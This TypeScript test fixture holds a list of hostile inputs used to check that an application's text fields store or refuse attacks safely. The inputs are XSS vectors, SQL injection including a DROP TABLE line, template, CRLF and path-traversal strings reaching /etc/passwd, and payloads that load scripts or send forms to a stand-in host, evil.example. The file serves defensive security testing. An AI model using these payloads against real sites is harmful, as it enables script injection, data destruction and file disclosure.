// Hostile input: XSS and injection payloads that every text field must either store verbatim
// (and every page show as inert text) or refuse with INVALID_INPUT, never a database error.
// Used by tests/security/hostile-input.test.ts (domain functions) and e2e/hostile-input.spec.ts
// (rendering). Payloads that would run script set `window.__xss`, so a test can see it ran.

export type HostilePayload = {
  name: string;
  text: string;
  /** Refused by design (U+0000 cannot be stored in Postgres text): INVALID_INPUT, not a 500. */
  refused?: true;
};

const X = "window.__xss=1";

export const HOSTILE_INPUT: readonly HostilePayload[] = [
  // Script tags and their disguises
  { name: "script tag", text: `<script>${X}</script>` },
  { name: "script tag, upper case", text: `<SCRIPT>${X}</SCRIPT>` },
  { name: "script with src", text: `<script src="https://evil.example/x.js"></script>` },
  { name: "script split by null-ish comment", text: `<scr<!-- -->ipt>${X}</script>` },
  { name: "closing a textarea first", text: `</textarea><script>${X}</script>` },
  { name: "closing a title first", text: `</title><script>${X}</script>` },
  { name: "closing a style first", text: `</style><script>${X}</script>` },
  { name: "breaking out of an attribute", text: `"><script>${X}</script>` },
  { name: "breaking out of a single-quoted attribute", text: `'><img src=x onerror="${X}">` },
  { name: "JSON breakout in an inline script", text: `</script><script>${X}</script>` },
  // Event handlers
  { name: "img onerror", text: `<img src=x onerror="${X}">` },
  { name: "img onerror without quotes", text: `<img src=x onerror=${X}>` },
  { name: "body onload", text: `<body onload="${X}">` },
  { name: "svg onload", text: `<svg onload="${X}"></svg>` },
  { name: "svg with script", text: `<svg><script>${X}</script></svg>` },
  { name: "svg animate href", text: `<svg><a><animate attributeName=href values=javascript:${X} /><text y=20>click</text></a></svg>` },
  { name: "details ontoggle", text: `<details open ontoggle="${X}">` },
  { name: "input autofocus onfocus", text: `<input autofocus onfocus="${X}">` },
  { name: "marquee onstart", text: `<marquee onstart="${X}">x</marquee>` },
  { name: "video source onerror", text: `<video><source onerror="${X}"></video>` },
  { name: "math href", text: `<math><mtext><a href="javascript:${X}">x</a></mtext></math>` },
  // javascript: and data: links
  { name: "javascript link", text: `<a href="javascript:${X}">click me</a>` },
  { name: "javascript link, entity-encoded", text: `<a href="&#106;avascript:${X}">click</a>` },
  { name: "javascript link with tab", text: `<a href="java\tscript:${X}">click</a>` },
  { name: "bare javascript URL", text: `javascript:${X}` },
  { name: "data URL with script", text: `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==` },
  // Frames, objects, forms, meta
  { name: "iframe srcdoc", text: `<iframe srcdoc="<script>parent.${X}</script>"></iframe>` },
  { name: "iframe javascript src", text: `<iframe src="javascript:${X}"></iframe>` },
  { name: "object data", text: `<object data="javascript:${X}"></object>` },
  { name: "embed", text: `<embed src="javascript:${X}">` },
  { name: "meta refresh", text: `<meta http-equiv="refresh" content="0;url=javascript:${X}">` },
  { name: "base href hijack", text: `<base href="https://evil.example/">` },
  { name: "form action hijack", text: `<form action="https://evil.example/"><button>Senden</button></form>` },
  // Markdown tricks (we do not render Markdown; they must stay text)
  { name: "markdown javascript link", text: `[Hier klicken](javascript:${X})` },
  { name: "markdown image onerror", text: `![x](x" onerror="${X})` },
  { name: "markdown reference link", text: `[a][1]\n\n[1]: javascript:${X}` },
  { name: "markdown autolink", text: `<javascript:${X}>` },
  { name: "markdown html block", text: `<div>\n\n<script>${X}</script>\n\n</div>` },
  // CSS
  { name: "style tag", text: `<style>body{display:none}</style>` },
  { name: "css expression", text: `<div style="width: expression(${X})">x</div>` },
  { name: "css url javascript", text: `<div style="background:url(javascript:${X})">x</div>` },
  { name: "css import", text: `<style>@import "https://evil.example/x.css";</style>` },
  // Entities and encodings
  { name: "html entities", text: `&lt;script&gt;${X}&lt;/script&gt; &amp; &#x3C;img src=x onerror=${X}&#x3E;` },
  { name: "double-encoded", text: `%253Cscript%253E${X}%253C%252Fscript%253E` },
  { name: "utf-7 style", text: `+ADw-script+AD4-${X}+ADw-/script+AD4-` },
  // Unicode
  { name: "RTL override", text: `Rechnung\u202Egnp.exe für Familie` },
  { name: "bidi isolates and marks", text: `\u2066abc\u2069 \u200F\u200E \u061C arabisch` },
  { name: "zero-width characters", text: `Zero\u200Bwidth\u200Cjoin\u200Dx\uFEFFend` },
  { name: "combining characters (zalgo)", text: `Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308a\u0309\u030A\u030B\u030Cl\u030D\u030E\u030Fgo` },
  { name: "emoji and astral", text: `👩🏽‍👩🏿‍👧🏻‍👦 𝕏 𠜎 \u{1F1E9}\u{1F1EA}` },
  { name: "lone surrogate", text: `broken \uD800 surrogate` },
  { name: "very long word", text: "A".repeat(4900) },
  { name: "very long URL", text: `https://example.org/${"a/".repeat(1500)}` },
  { name: "control characters", text: `bell\u0007 backspace\u0008 escape\u001B[31mred\u001B[0m` },
  { name: "null byte", text: `before\u0000after`, refused: true },
  // Injection of other kinds
  { name: "SQL injection quote", text: `'; DROP TABLE "Contribution"; --` },
  { name: "SQL injection tautology", text: `" OR 1=1 -- ` },
  { name: "SQL LIKE wildcards", text: `%_%\\%` },
  { name: "template injection mustache", text: `{{7*7}} {{constructor.constructor('${X}')()}}` },
  { name: "template injection dollar", text: "${7*7} #{7*7} <%= 7*7 %>" },
  { name: "ICU message syntax", text: `{count, plural, one {#} other {# ${X}}} {0}` },
  { name: "prototype pollution key", text: `__proto__ constructor prototype` },
  { name: "CRLF header injection", text: `line\r\nSet-Cookie: evil=1\r\n\r\n<script>${X}</script>` },
  { name: "path traversal", text: `../../../../etc/passwd` },
];

/** Stored verbatim? A schema trims surrounding white space; everything inside must survive. */
export function asStored(text: string): string {
  return text.trim();
}
